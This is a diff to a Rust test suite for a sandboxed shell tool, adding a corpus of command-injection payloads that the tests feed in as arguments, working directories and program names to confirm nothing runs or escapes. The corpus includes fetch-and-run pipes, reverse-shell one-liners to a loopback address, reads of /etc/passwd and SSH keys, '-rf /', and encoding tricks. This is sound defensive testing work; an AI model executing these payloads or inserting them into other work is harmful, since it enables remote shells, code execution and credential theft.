@@ -1,17 +1,19 @@
-//! Hostile inputs through the real `bastion shell` binary, the tables part:
+//! Hostile inputs through the real `bastion shell` binary, the tables:
 //!
 //! * a. the Desktop Commander bypasses as argv (shells, wrappers, interpreters, quoted and
 //!   path-qualified program names, shell metacharacters in arguments);
 //! * b. per-program flag tricks (security-notes §4.4): exec, write and read-elsewhere flags in
 //!   every spelling (abbreviated, bundled, attached, after operands), and the build tools' own;
-//! * c. paths outside the roots, through `..`, absolute paths, symlinks and /proc, and deny globs.
+//! * c. paths outside the roots, through `..`, absolute paths, symlinks and /proc, and deny globs;
+//! * d. a corpus of command-injection payloads as an argument to `echo` (must come back literally)
+//!   and `ls` (never executed), as `cwd` and as the program name.
 //!
 //! Every case runs in its own tree with a fresh server and afterwards checks that no marker file
 //! appeared (in the tree, `/tmp`, `$HOME`, the working directory or `/`), that nothing outside the
 //! root changed (content, mode, mtime, xattrs) and that no output contained the outside sentinel
 //! or the output of a planted program. What project code run by `make` can do inside the kernel
-//! sandbox (files, network, signals, namespaces, rlimits, environment) and the injection-payload
-//! corpus stay in `tests/python/test_shell_hostile.py`.
+//! sandbox (files, network, signals, namespaces, rlimits, environment) stays in
+//! `tests/python/test_shell_hostile.py`.
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
 use std::collections::BTreeMap;
@@ -761,6 +763,197 @@ fn paths_outside_the_root_are_refused() {
             for text in &b.outputs {
                 assert!(!text.contains("inside-root-dotenv-secret") && !text.contains("inside-root-key-secret"));
             }
+            b.assert_contained(false);
+        },
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// d. Command-injection payloads
+// ---------------------------------------------------------------------------------------------
+
+const PAYLOADS: [&str; 114] = [
+    ";id",
+    ";id;",
+    "; id",
+    "|id",
+    "| id",
+    "||id",
+    "|| id",
+    "&id",
+    "& id &",
+    "&&id",
+    "&& id",
+    "a;id",
+    "a|id",
+    "a&&id",
+    "a||id",
+    "; touch {m}",
+    "| touch {m}",
+    "&& touch {m}",
+    "|| touch {m};",
+    "& touch {m} &",
+    "$(id)",
+    "`id`",
+    "$(touch {m})",
+    "`touch {m}`",
+    "$(sleep 5)",
+    "`sleep 5`",
+    "$(sleep${IFS}5)",
+    "; sleep 5",
+    "| sleep 5 #",
+    "&& sleep 5",
+    "$((1+1))",
+    "${PATH}",
+    "$PATH",
+    "${HOME}",
+    "$0",
+    "$$",
+    "${PATH:0:1}bin",
+    "$(cat /etc/passwd)",
+    "`cat {outside}/sentinel.txt`",
+    "$(<{outside}/sentinel.txt)",
+    "<(touch {m})",
+    ">(touch {m})",
+    "${IFS}id",
+    "$IFS$9id",
+    ";touch${IFS}{m}",
+    "{touch,{m}}",
+    "cat${IFS}/etc/passwd",
+    "\nid",
+    "\nid\n",
+    "\ntouch {m}",
+    "\x0d\nid",
+    "\x0dtouch {m}",
+    "%0aid",
+    "%0Atouch%20{m}",
+    "%0d%0aid",
+    "\\nid",
+    "a\u{2028}id",
+    "a\u{85}id",
+    "\x0bid",
+    "\x0cid",
+    "> {m}",
+    ">> {m}",
+    ">| {m}",
+    "2> {m}",
+    "&> {m}",
+    "< /etc/passwd",
+    "<> {m}",
+    "1>&2",
+    "';touch {m};'",
+    "\";touch {m};\"",
+    "\\;touch {m}",
+    "'$(id)'",
+    "\"$(id)\"",
+    "$'\\x3b'id",
+    "$'\\ntouch {m}'",
+    "&& curl http://127.0.0.1:9/x | sh",
+    "; wget -qO- http://127.0.0.1:9/x | sh",
+    "| nc -e /bin/sh 127.0.0.1 9",
+    "; bash -i >& /dev/tcp/127.0.0.1/9 0>&1",
+    "|| python3 -c 'import os; os.system(\"id\")'",
+    "*",
+    "?",
+    "[a-z]*",
+    "**/*",
+    ".*",
+    "!!",
+    "!-1",
+    "~",
+    "~root",
+    "~/.ssh/id_rsa",
+    "-e \\x41",
+    "-n",
+    "--help",
+    "--version",
+    "-rf /",
+    "--",
+    "-",
+    "../../../../../../etc/passwd",
+    "..%2f..%2fetc%2fpasswd",
+    "%2e%2e/%2e%2e/etc/passwd",
+    "....//....//etc/passwd",
+    "\u{37e} touch {m}",
+    "\u{ff1b} touch {m}",
+    "\u{ff5c} touch {m}",
+    "\u{ff04}(touch {m})",
+    "\u{200b}touch {m}",
+    "touch\u{a0}{m}",
+    "\u{202e}id",
+    "\u{feff}id",
+    "\u{e9};id",
+    "\u{1f4a5};id",
+    "x\tid",
+    "\x1b[31mred\x1b[0m",
+    "\x07\x08\x7f",
+    // "a" repeated 4 000 times is added by `payloads()`.
+];
+
+/// The corpus, with the one payload too long to write out.
+fn payloads() -> Vec<String> {
+    PAYLOADS.iter().map(|p| p.to_string()).chain(["a".repeat(4000)]).collect()
+}
+
+#[test]
+fn injection_payloads() {
+    let all = payloads();
+    let indexed: Vec<(usize, &String)> = all.iter().enumerate().collect();
+    each(
+        &indexed,
+        |(i, p)| format!("{i:03}-{:?}", p.chars().take(20).collect::<String>()),
+        |&(_, payload)| {
+            let mut b = build_box();
+            let payload = b.sub(payload);
+            let mut s = shell(&b.root, "read-only");
+            // (i) echo: back verbatim, byte for byte.
+            let t0 = std::time::Instant::now();
+            let (code, out) = b.run(&mut s, "echo", &["BEGIN".into(), payload.clone(), "END".into()], None);
+            assert!(code.is_none(), "{code:?} {out}");
+            assert_eq!(out["stdout"], format!("BEGIN {payload} END\n"), "{out}");
+            assert!(out["exit_code"] == 0 && out["stderr"] == "");
+            // ls: refused, or an ls error about that exact name; never executed.
+            let (code, out) = b.run(&mut s, "ls", std::slice::from_ref(&payload), None);
+            match code.as_deref() {
+                None if payload == "--" || payload == "-n" => {
+                    assert_eq!(out["exit_code"], 0, "an allowed ls option, listing the cwd: {out}");
+                }
+                None => {
+                    assert!(out["exit_code"] == 2 && out["stdout"] == "", "{out}");
+                    let stderr = out["stderr"].as_str().unwrap();
+                    assert!(stderr.contains("No such file") || stderr.contains("File name too long"), "{out}");
+                }
+                Some(c) => assert!(
+                    ["argument_not_allowed", "path_outside_root", "denied_by_glob", "invalid_path"].contains(&c),
+                    "{c} {out}"
+                ),
+            }
+            // (ii) cwd: refused, or an existing directory inside the root.
+            let (code, out) = b.call(&mut s, "run_command", json!({"program": "pwd", "cwd": payload}));
+            match code.as_deref() {
+                None => {
+                    let here = std::fs::canonicalize(out["stdout"].as_str().unwrap().trim()).unwrap();
+                    assert!(here.starts_with(&b.root), "{out}");
+                }
+                Some(c) => assert!(
+                    [
+                        "path_outside_root",
+                        "not_found",
+                        "invalid_path",
+                        "not_a_directory",
+                        "denied_by_glob",
+                        "name_too_long"
+                    ]
+                    .contains(&c),
+                    "{c} {out}"
+                ),
+            }
+            // The payload as a program name.
+            let (code, out) = b.call(&mut s, "run_command", json!({"program": payload, "args": []}));
+            assert!(code.as_deref().is_some_and(|c| REFUSED.contains(&c)), "{code:?} {out}");
+            let elapsed = t0.elapsed();
+            assert!(elapsed < Duration::from_secs(3), "four calls took {elapsed:?}");
+            drop(s);
             b.assert_contained(false);
         },
     );
